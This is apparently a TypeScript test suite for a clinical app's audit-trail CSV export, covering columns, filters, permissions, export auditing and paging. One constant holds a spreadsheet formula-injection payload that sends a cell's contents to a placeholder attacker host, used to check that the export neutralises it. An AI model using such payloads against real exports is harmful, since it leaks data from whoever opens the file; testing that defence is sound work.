import { AUDIT_EVENT_TYPES, type Filter, type Resource } from '@caseload/core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { auditEventsOf } from '../../test/access/support.ts';
import { startTestServer, TEST_PASSWORD, type ApiResponse, type TestServer, type TestUser } from '../../test/harness.ts';

/**
 * `POST AuditEvents/export` (docs/audit-trail.md): the trail as CSV over HTTP from the real server,
 * read back with a CSV parser: what it holds, in words, for which filters; who may export; the
 * export's own Export event; paging across pages without OFFSET; and formula cells neutralised.
 */

let t: TestServer;
let auditor: TestUser;
let clinician: TestUser;
let ada: Resource;
let grace: Resource;
/** The practice's time zone, set in its preferences so the export must read it. */
const ZONE = 'America/Chicago';
/** A user agent an attacker chose: a spreadsheet would run it as a formula. */
const FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

/** RFC 4180 rows of a CSV text (quoted cells, doubled quotes, CRLF line ends). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** The export's rows as objects keyed by the header's column names. */
function records(r: ApiResponse): Record<string, string>[] {
  expect(r.status, r.text.slice(0, 300)).toBe(200);
  const [header, ...rows] = parseCsv(r.text);
  for (const row of rows) expect(row).toHaveLength(header!.length);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

const exportAs = (user: TestUser, filters: Filter[]) => user.client.request('POST', 'AuditEvents/export', { body: filters });

/** The export's first bytes as sent (a client's `text()` drops a byte-order mark). */
async function firstBytes(user: TestUser): Promise<number[]> {
  const { cookies } = user.client;
  const r = await fetch(user.client.url('AuditEvents/export'), {
    method: 'POST',
    headers: {
      cookie: [...cookies].map(([k, v]) => `${k}=${v}`).join('; '),
      'x-xsrf-token': decodeURIComponent(cookies.get('XSRF-TOKEN')!),
      'content-type': 'application/json',
    },
    body: '[]',
  });
  return [...new Uint8Array(await r.arrayBuffer()).slice(0, 3)];
}

beforeAll(async () => {
  t = await startTestServer();
  auditor = await t.createUser({ roles: ['Administrative'] });
  clinician = await t.createUser({ roles: ['Non-Prescribing Clinician'] });
  expect((await t.request('POST', 'PracticePreferences', { body: { timeZone: ZONE } })).status).toBe(201);
  ada = (await t.request('POST', 'Patients', { body: { names: [{ given: ['Ada'], family: 'Lovelace' }] } })).body;
  grace = (await t.request('POST', 'Patients', { body: { names: [{ given: ['Grace'], family: 'Hopper' }] } })).body;
  expect((await clinician.client.request('GET', `Patients/${ada.id}`)).status).toBe(200);
  expect((await clinician.client.request('GET', `Patients/${grace.id}`)).status).toBe(200);
  // A sign-in whose User-Agent header (recorded on its event) is a spreadsheet formula.
  const attacker = t.anonymous();
  await attacker.request('GET', '/api/v1/auth/session');
  const signIn = await attacker.request('POST', '/api/v1/auth/sign-in', {
    body: { email: clinician.email, password: TEST_PASSWORD },
    headers: { 'user-agent': FORMULA_AGENT },
  });
  expect(signIn.status).toBe(200);
});
afterAll(() => t?.close());

describe('exporting the audit trail as CSV', () => {
  it('streams every matching event in words, newest first, times in the practice time zone', async () => {
    const r = await exportAs(auditor, []);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="audit-trail-${t.practiceId}-\\d{8}-\\d{6}\\.csv"$`),
    );
    expect(r.headers.get('content-length'), 'streamed, not buffered and measured').toBeNull();
    const rows = records(r);
    expect(await firstBytes(auditor), 'a UTF-8 byte-order mark, for spreadsheets').toEqual([0xef, 0xbb, 0xbf]);
    expect(Object.keys(rows[0]!)).toEqual([
      `Recorded (${ZONE})`,
      'Recorded (UTC)',
      'Event',
      'Event type',
      'Action',
      'Outcome',
      'Description',
      'User',
      'User profile',
      'Account',
      'Record type',
      'Record id',
      'Record version',
      'Query',
      'Patient',
      'Patient MRN',
      'Patient id',
      'Address',
      'User agent',
      'Request id',
      'Event id',
    ]);
    const recorded = rows.map((row) => row['Recorded (UTC)']!);
    expect(recorded).toEqual([...recorded].sort().reverse());

    const readAda = rows.find((row) => row['Patient id'] === ada.id && row.Event === 'Read a patient record');
    expect(readAda).toMatchObject({
      'Event type': 'Patient Record',
      Action: 'Read',
      Outcome: 'Success',
      User: expect.stringMatching(/^Non-Prescribing Clinician /),
      'User profile': `Practitioner/${clinician.profile.id}`,
      Account: clinician.accountId,
      'Record type': 'Patient',
      'Record id': ada.id,
      Patient: 'Lovelace, Ada',
      'Patient MRN': ada.mrn,
    });
    // The local column is the UTC instant on Chicago's wall clock.
    const utc = new Date(readAda!['Recorded (UTC)']!);
    const chicago = new Intl.DateTimeFormat('sv-SE', { timeZone: ZONE, dateStyle: 'short', timeStyle: 'medium' }).format(utc);
    expect(readAda![`Recorded (${ZONE})`]).toBe(chicago);
    expect(rows.some((row) => row.Event === 'Signed in' && row.Account === clinician.accountId)).toBe(true);
  });

  it('applies the filters of AuditEvents/queries: patient, user, time and outcome', async () => {
    const byPatient = records(await exportAs(auditor, [{ field: 'patient.id', op: 'eq', value: ada.id }]));
    expect(byPatient.length).toBeGreaterThan(0);
    expect(byPatient.every((row) => row['Patient id'] === ada.id)).toBe(true);

    const byUser = records(await exportAs(auditor, [{ field: 'agent.who.id', op: 'eq', value: clinician.profile.id }]));
    expect(new Set(byUser.map((row) => row['User profile']))).toEqual(new Set([`Practitioner/${clinician.profile.id}`]));
    expect(byUser.map((row) => row['Patient id'])).toEqual(expect.arrayContaining([ada.id, grace.id]));

    const all = records(await exportAs(auditor, []));
    const middle = all.find((row) => row['Patient id'] === grace.id)!['Recorded (UTC)']!;
    const since = records(await exportAs(auditor, [{ field: 'meta.lastModified', op: 'ge', value: middle }]));
    expect(since.length).toBeGreaterThan(0);
    expect(since.every((row) => row['Recorded (UTC)']! >= middle)).toBe(true);
    expect(since.some((row) => row['Record id'] === ada.id && row.Event === 'Created a patient record')).toBe(false);
    expect(all.some((row) => row['Record id'] === ada.id && row.Event === 'Created a patient record')).toBe(true);

    const refused = await clinician.client.request('GET', 'AuditEvents');
    expect(refused.status).toBe(403);
    const failures = records(await exportAs(auditor, [{ field: 'outcome', op: 'eq', value: 'Failure' }]));
    expect(failures.length).toBeGreaterThan(0);
    expect(failures.every((row) => row.Outcome === 'Failure')).toBe(true);
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const r = await exportAs(auditor, [{ field: 'agent.accountId', op: 'eq', value: clinician.accountId }]);
    const signIn = records(r).find((row) => row['User agent']?.includes('HYPERLINK'));
    expect(signIn?.['User agent']).toBe(`'${FORMULA_AGENT}`);
    expect(r.text).not.toMatch(/(^|,)"=HYPERLINK/m);
  });

  it("is recorded as an Export, naming the patient when the export is one patient's access log", async () => {
    const r = await exportAs(auditor, [{ field: 'patient.id', op: 'eq', value: ada.id }]);
    records(r);
    const events = await auditEventsOf(t, r);
    const exported = events.filter((e) => e.body.type.code === AUDIT_EVENT_TYPES.export.code);
    expect(exported).toHaveLength(1);
    expect(exported[0]!.body).toMatchObject({
      action: 'E',
      outcome: 'Success',
      agent: { who: auditor.profile, accountId: auditor.accountId },
      entity: { resourceType: 'AuditEvent', query: JSON.stringify([{ field: 'patient.id', op: 'eq', value: ada.id }]) },
      patient: { resourceType: 'Patient', id: ada.id },
    });
    // The pages it read are audited as searches of the trail, under the same request.
    expect(events.some((e) => e.body.type.code === AUDIT_EVENT_TYPES.auditLogUsed.code)).toBe(true);
    // An export of the whole trail names no patient.
    const whole = await auditEventsOf(t, await exportAs(auditor, []));
    expect(whole.find((e) => e.body.type.code === AUDIT_EVENT_TYPES.export.code)?.body.patient).toBeUndefined();
  });

  it('is a 403 for a role that may not read the audit trail, and a 400 for a bad filter; neither exports', async () => {
    const others = await Promise.all(['Practitioner', 'Quality Assurance', 'Supervisor'].map((role) => t.createUser({ roles: [role] })));
    for (const user of [clinician, ...others]) {
      const r = await exportAs(user, []);
      expect(r.status, user.email).toBe(403);
      expect(r.body.detail).toBe("You don't have permissions to perform this action.");
      expect((await auditEventsOf(t, r)).map((e) => e.body.type.code)).toEqual([AUDIT_EVENT_TYPES.securityAlert.code]);
    }
    const bad = await exportAs(auditor, [{ field: 'patient.id', op: 'sounds-like', value: 'x' } as unknown as Filter]);
    expect(bad.status).toBe(400);
    expect(bad.body.detail).toBe('The query is invalid.');
    expect(await auditEventsOf(t, bad)).toEqual([]);
  });

  it('reads a long trail page by page with keyset paging, never OFFSET, every event once', async () => {
    const EVENTS = 2300;
    const patientId = 'export-paging-patient';
    const base = Date.parse('2026-03-01T00:00:00Z');
    // Written through the server's own audit writer, as reads are.
    await Promise.all(
      Array.from({ length: EVENTS }, (_, i) =>
        t.server.app.audit.record({
          practiceId: t.practiceId,
          event: {
            type: AUDIT_EVENT_TYPES.patientRecord,
            action: 'R',
            outcome: 'Success',
            recorded: new Date(base + i * 1000).toISOString(),
            agent: { who: clinician.profile, accountId: clinician.accountId },
            entity: { resourceType: 'Note', id: `note-${i}` },
            patient: { resourceType: 'Patient', id: patientId },
          },
        }),
      ),
    );
    const query = vi.spyOn(t.server.app.db.pool, 'query');
    let r: ApiResponse;
    let sent: string[];
    try {
      r = await exportAs(auditor, [{ field: 'patient.id', op: 'eq', value: patientId }]);
      sent = query.mock.calls.map(([config]) => (typeof config === 'string' ? config : (config as { text: string }).text));
    } finally {
      query.mockRestore();
    }
    const rows = records(r);
    expect(rows.map((row) => row['Record id'])).toEqual(Array.from({ length: EVENTS }, (_, i) => `note-${EVENTS - 1 - i}`));
    const pages = sent.filter((text) => text.includes('FROM r_audit_event') && !text.startsWith('INSERT'));
    expect(pages).toHaveLength(3);
    for (const text of sent) expect(text).not.toMatch(/\bOFFSET\b/i);
    const searches = (await auditEventsOf(t, r)).filter((e) => e.body.type.code === AUDIT_EVENT_TYPES.auditLogUsed.code);
    expect(searches).toHaveLength(3);
  });
});
